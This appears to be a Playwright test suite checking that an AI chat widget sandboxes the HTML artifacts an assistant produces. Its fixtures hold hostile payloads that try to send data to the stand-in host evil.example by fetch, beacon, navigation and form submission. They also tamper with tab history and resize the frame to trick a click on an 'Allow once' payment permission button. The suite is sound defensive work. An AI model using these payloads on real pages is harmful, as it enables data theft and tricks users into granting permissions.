import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { FrameLocator, Page } from 'playwright-core';
import { releaseContext, openSite, type Site } from './support/site.ts';

const FOREIGN = 'https://evil.example';

/** Every way in which a page may try to reach other hosts, and where it reports the result. */
const HOSTILE = `<!doctype html>
<link rel="stylesheet" href="${FOREIGN}/a.css">
<link rel="preload" as="image" href="${FOREIGN}/b.png">
<style>@import "${FOREIGN}/c.css"; body { background: url(${FOREIGN}/d.png) }</style>
<img src="${FOREIGN}/e.png"><video src="${FOREIGN}/f.mp4" poster="${FOREIGN}/g.png"></video>
<script src="${FOREIGN}/h.js"></script>
<iframe src="${FOREIGN}/i"></iframe><object data="${FOREIGN}/j"></object>
<form action="${FOREIGN}/k" id="form"><input name="a" value="b"></form>
<p id="out">waiting</p>
<script>
  const said = [];
  const attempt = (name, act) => {
    try {
      const value = act();
      said.push(name + ': ' + (value === null ? 'none' : 'done'));
    } catch (error) {
      said.push(name + ': ' + error.name);
    }
  };
  attempt('cookie', () => document.cookie);
  attempt('storage', () => localStorage.length);
  attempt('parent', () => parent.document.title);
  attempt('top', () => (top.location = '${FOREIGN}/l'));
  attempt('open', () => open('${FOREIGN}/m'));
  attempt('alert', () => alert(1));
  fetch('${FOREIGN}/n').catch(() => undefined);
  try { new WebSocket('wss://evil.example/o').onerror = () => undefined; } catch {}
  try { new EventSource('${FOREIGN}/p').onerror = () => undefined; } catch {}
  try { navigator.sendBeacon('${FOREIGN}/q', 'x'); } catch {}
  try { new Worker('data:text/javascript,fetch("${FOREIGN}/r")'); } catch {}
  document.getElementById('form').submit();
  document.getElementById('out').textContent = self.origin + ' ' + said.join(', ');
</script>`;

/** A document that tries to leave the page by the history of its tab, which is that of its frame. */
const LEAVES = `<!doctype html><p id="out">waiting</p><script>
  addEventListener('load', () => setTimeout(() => {
    for (const act of [
      () => history.pushState(1, ''),
      () => history.back(),
      () => history.go(-1),
      () => History.prototype.go.call(history, -1),
      () => navigation.back(),
    ])
      try { act(); } catch {}
    setTimeout(() => { document.getElementById('out').textContent = 'done'; }, 300);
  }, 0));
</script>`;

/** A document that gives its frame another height when it is pressed. */
const SHRINKS = `<!doctype html><body style="margin:0;height:400px">Press fast<script>
  addEventListener('pointerdown', () => {
    parent.postMessage({ agentChat: 1, type: 'size', height: Number(document.body.dataset.height) }, '*');
  });
</script>`;

const PERMISSION = {
  type: 'action',
  action_type: 'tool_call_permission',
  status: 'pending',
  tool_call: { name: 'pay', params: '{"amount":900}' },
} as const;

describe('an artifact', () => {
  let site: Site;
  before(async () => {
    const chat = '<agent-chat endpoint="/agent"></agent-chat>';
    site = await openSite({
      pages: { '/': chat, '/narrow': `<style>agent-chat { width: 600px; height: 700px }</style>${chat}` },
    });
  });
  after(() => site.close());

  /** A page with an artifact that the user has opened, and the requests that got out of it. */
  async function opened(
    content: string,
    { path = '/', more = [] }: { readonly path?: string; readonly more?: readonly object[] } = {},
  ): Promise<{
    readonly page: Page;
    readonly inside: FrameLocator;
    readonly out: string[];
    /** Resolves when the browser reports that it has stopped a frame from navigating. */
    readonly blocked: Promise<unknown>;
  }> {
    const page = await site.visit(path);
    const out: string[] = [];
    // Requests that a policy stops never get here.
    await page.context().route(`${FOREIGN}/**`, (route) => {
      out.push(route.request().url());
      return route.abort();
    });
    const blocked = new Promise<void>((resolve) => {
      page.on('console', (message) => {
        if (/^Framing|initiate navigation/.test(message.text())) resolve();
      });
    });
    page.on('popup', (popup) => out.push(`window ${popup.url()}`));
    page.on('dialog', (dialog) => out.push(`dialog ${dialog.message()}`));
    await page.evaluate(
      async ([html, others]) => {
        await customElements.whenDefined('agent-chat');
        const artifact = { identifier: 'a', title: 'Page', type: 'text/html' as const };
        document.querySelector('agent-chat')!.messages = [
          {
            role: 'assistant',
            blocks: [{ type: 'content', status: 'success', content: html, artifact }, ...others],
          },
        ];
        history.pushState('here', '');
        Object.assign(globalThis, { lengthBefore: history.length });
      },
      [content, more] as const,
    );
    const button = page.locator('agent-chat-artifact button').first();
    await button.waitFor();
    assert.equal(await page.locator('iframe').count(), 0, 'no frame before the reader asks');
    await button.click();
    const frame = page.locator('agent-chat-artifact iframe');
    await frame.waitFor();
    assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
    return { page, inside: frame.contentFrame().frameLocator('iframe'), out, blocked };
  }

  it('rule 9: runs in a frame that reaches nobody', async () => {
    const { page, inside, out, blocked } = await opened(HOSTILE);
    const said = inside.locator('#out', { hasText: 'null' });
    await said.waitFor({ state: 'attached' });
    await blocked;
    assert.equal(
      await said.textContent(),
      'null cookie: SecurityError, storage: SecurityError, parent: SecurityError, top: SecurityError, open: none, alert: done',
    );
    assert.deepEqual(out, []);
    assert.equal(page.url(), `${site.origin}/`);
    await releaseContext(page);
  });

  for (const [name, script] of [
    ['by script', `location = '${FOREIGN}/?secret'`],
    [
      'by a refresh',
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${FOREIGN}/?secret' }))`,
    ],
    ['by a link', `Object.assign(document.createElement('a'), { href: '${FOREIGN}/?secret' }).click()`],
    ['over its parent', `parent.location = '${FOREIGN}/?secret'`],
  ] as const) {
    it(`cannot send any data by navigating, ${name}`, async () => {
      const { page, out, blocked } = await opened(
        `<p>x</p><script>parent.postMessage('here', '*'); try { ${script} } catch {}</script>`,
      );
      await blocked;
      assert.deepEqual(out, []);
      assert.equal(page.url(), `${site.origin}/`);
      await releaseContext(page);
    });
  }

  it('rule 99: leaves the history of its tab as it is', async () => {
    const { page, inside } = await opened(LEAVES);
    await inside.getByText('done').waitFor();
    assert.equal(await page.evaluate('history.state'), 'here');
    assert.equal(await page.evaluate('history.length'), await page.evaluate('lengthBefore'));
    await releaseContext(page);
  });

  it('rule 99: moves no button under a pointer that is pressing it', async () => {
    const { page, inside } = await opened(SHRINKS, {
      path: '/narrow',
      more: [PERMISSION, { type: 'content', content: 'Long.\n\n'.repeat(60) }],
    });
    await page.evaluate(() => {
      const answers: string[] = [];
      Object.assign(globalThis, { answers });
      document.querySelector('agent-chat')!.addEventListener('agent-chat-action', ({ detail }) => {
        answers.push(detail.action);
      });
    });
    const frame = page.locator('agent-chat-artifact iframe');
    const allow = page.getByRole('button', { name: 'Allow once' });
    await inside.getByText('Press fast').waitFor();
    await page.locator('agent-chat-artifact').evaluate((row) => {
      row.scrollIntoView({ block: 'start' });
    });
    const [outer, button] = [await frame.boundingBox(), await allow.boundingBox()];
    assert.ok(outer && button);
    const x = button.x + 10;
    const y = outer.y + outer.height - 20;
    const height = Math.round(outer.height - (button.y + button.height / 2 - y));
    await inside.locator('body').evaluate((body, value) => {
      body.dataset['height'] = String(value);
    }, height);
    await page.mouse.click(x, y);
    await page.waitForFunction(
      (value) => document.querySelector('agent-chat')?.shadowRoot?.querySelector('iframe')?.height === String(value),
      height,
    );
    await page.mouse.click(x, y);
    await page.mouse.click(x, y);
    assert.deepEqual(await page.evaluate('answers'), []);
    await page.waitForTimeout(600);
    await page.mouse.click(x, y);
    assert.deepEqual(await page.evaluate('answers'), ['granted']);
    await releaseContext(page);
  });

  it('does nothing in a page that is opened in any other way', async () => {
    const page = await site.visit('/');
    await page.goto(`${site.origin}/dist/frame.html`);
    await page.evaluate(() => {
      postMessage({ agentChat: 1, type: 'show', html: '<p id="shown">x</p>' }, '*');
      return new Promise((resolve) => {
        addEventListener('message', resolve, { once: true });
        postMessage('behind it', '*');
      });
    });
    assert.equal(await page.locator('#shown').count(), 0);
    await releaseContext(page);
  });
});
